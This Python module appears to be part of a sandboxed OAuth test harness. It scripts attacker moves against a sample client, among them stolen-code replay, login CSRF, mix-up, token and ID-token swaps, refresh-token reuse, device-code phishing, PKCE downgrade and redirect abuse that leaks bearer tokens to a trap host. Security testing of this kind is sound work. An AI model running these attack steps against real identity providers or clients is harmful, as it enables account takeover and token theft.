"""The attackers' moves: each is a short script against public endpoints.

A move returns what the attacker got, or "" if that is nothing. It may also fail with the error of
the check that stopped it.
"""

from __future__ import annotations

import re
from contextlib import suppress
from urllib.error import HTTPError
from urllib.parse import parse_qsl, urlencode, urlsplit, urlunsplit

from oauth_widgets.sandbox.attacks.stage import BACK, Stage, Trap

SCOPE = "openid phone events.read"


def stolen_code(stage: Stage) -> str:
    """Take Alice's code from a log, and redeem it before her notebook does."""
    code = _answer(stage.allow(stage.target.begin(SCOPE)))["code"]
    form = {"grant_type": "authorization_code", "code": code, "redirect_uri": BACK}
    token = stage.token_request(**form, client_id=stage.client.client_id)
    return "Alice's access token" if token else ""


def login_csrf(stage: Stage) -> str:
    """Send Alice's browser to the notebook with an answer that belongs to Bob."""
    stage.target.begin(SCOPE)
    bobs = stage.allow(_request(stage), "bob")
    stage.target.finish(bobs)
    return "Alice works with Bob's data" if stage.signed_in() == "bob" else ""


def code_injection(stage: Stage) -> str:
    """Put Alice's leaked code into the answer to your own sign-in."""
    leaked = _answer(stage.allow(stage.target.begin(SCOPE)))["code"]
    own = stage.allow(stage.target.begin(SCOPE), "bob")
    stage.target.finish(_with(own, code=leaked))
    return "Alice's account" if stage.signed_in() == "alice" else ""


def mix_up(stage: Stage) -> str:
    """Send Alice from a hostile server to an honest one, and wait for the honest one's code."""
    honest = stage.sandbox.server
    with Trap(leads_to=str(honest.authorization_endpoint)) as hostile:
        stage.meet(hostile.address)
        onward, _ = stage.web.visit(stage.target.begin(SCOPE))
        answer = stage.allow(onward)
        with suppress(HTTPError):
            stage.target.finish(answer)
        return "a code from the honest server" if _caught(hostile, "code") else ""


def redirect_abuse(stage: Stage) -> str:
    """Give Alice an address at the API's own host that leads to yours."""
    stage.target.finish(stage.allow(stage.target.begin(SCOPE)))
    with Trap() as trap:
        params = {"client_id": "notebook", "post_logout_redirect_uri": f"{trap.address}/signed-out"}
        stage.target.get(f"{stage.sandbox.server.end_session_endpoint}?{urlencode(params)}")
        return _token_in(trap, stage)


def other_audience(stage: Stage) -> str:
    """Put a token that Alice gave your app into an answer for this client."""
    foreign = _answer(stage.allow(_request(stage, client_id="evil-app", implicit=True)))
    own = stage.allow(stage.target.begin(SCOPE, implicit=True), "bob")
    stage.target.finish(_with(own, access_token=foreign["access_token"]))
    stage.target.get(f"{stage.sandbox.api}/events")
    return "Bob reads with Alice's token"


def second_api(stage: Stage) -> str:
    """Offer an API with nice data, and replay the token it gets at the real one."""
    stage.target.finish(stage.allow(stage.target.begin(SCOPE)))
    with Trap() as trap:
        stage.target.get(f"{trap.address}/weather")
        return _token_in(trap, stage)


def refresh_twice(stage: Stage) -> str:
    """Read a refresh token from a saved notebook, and use it a second time elsewhere."""
    stage.target.finish(stage.allow(stage.target.begin(f"{SCOPE} offline_access")))
    found = re.search(r"refresh_token'?[:=] ?'([^']+)'", stage.target.saved())
    if found is None:
        return stage.ran_into("The saved cell has dots in place of every token.")
    token = stage.token_request(
        grant_type="refresh_token", refresh_token=found[1], client_id=stage.client.client_id
    )
    return "Alice's access, refreshed" if token else ""


def swapped_id_token(stage: Stage) -> str:
    """Put an ID token that Alice gave your app into an answer for this client."""
    foreign = _answer(stage.allow(_request(stage, client_id="evil-app", implicit=True)))
    own = stage.allow(stage.target.begin(SCOPE, implicit=True), "bob")
    stage.target.finish(_with(own, id_token=foreign["id_token"]))
    return "Alice's account" if stage.signed_in() == "alice" else ""


def device_phishing(stage: Stage) -> str:
    """Send Alice a link with the code of a device that isn't hers."""
    endpoint = str(stage.sandbox.server.device_authorization_endpoint)
    attackers = stage.web.json(endpoint, {"client_id": "terminal", "scope": SCOPE})
    link, theirs = attackers["verification_uri_complete"], attackers["user_code"]
    own = re.search(r"enter ([A-Z]{4}-[A-Z]{4})", stage.target.device_screen(SCOPE))
    # Alice compares the codes if her own screen shows one to compare.
    if own is not None and own[1] != theirs:
        return stage.ran_into(f"Alice's own screen says {own[1]}, and the link says {theirs}.")
    stage.allow(link, user_code=theirs)
    token = stage.token_request(
        grant_type="urn:ietf:params:oauth:grant-type:device_code",
        client_id="terminal",
        device_code=attackers["device_code"],
    )
    return "Alice's access token" if token else ""


def pkce_downgrade(stage: Stage) -> str:
    """Have Alice sign in without a challenge, and use her code in your own sign-in."""
    leaked = _answer(stage.allow(_request(stage)))["code"]
    own = stage.allow(stage.target.begin(SCOPE), "bob")
    stage.target.finish(_with(own, code=leaked))
    return "Alice's account" if stage.signed_in() == "alice" else ""


def _request(stage: Stage, client_id: str | None = None, *, implicit: bool = False) -> str:
    """Return an authorization request that the attacker wrote: no PKCE, no state."""
    params = {
        "response_type": "id_token token" if implicit else "code",
        "client_id": client_id or stage.client.client_id,
        "redirect_uri": BACK,
        "scope": SCOPE,
        "nonce": "1",
    }
    return f"{stage.sandbox.server.authorization_endpoint}?{urlencode(params)}"


def _answer(address: str) -> dict[str, str]:
    parts = urlsplit(address)
    return dict(parse_qsl(parts.query or parts.fragment))


def _with(address: str, **changed: str) -> str:
    """Return an answer with some of its parameters replaced."""
    parts = urlsplit(address)
    place = "query" if parts.query else "fragment"
    return urlunsplit(parts._replace(**{place: urlencode({**_answer(address), **changed})}))


def _caught(trap: Trap, name: str) -> str:
    return next((one[name] for one in trap.caught if one.get(name)), "")


def _token_in(trap: Trap, stage: Stage) -> str:
    token = _caught(trap, "authorization").removeprefix("Bearer ")
    return "Alice's access token" if token and stage.people_read(token) else ""
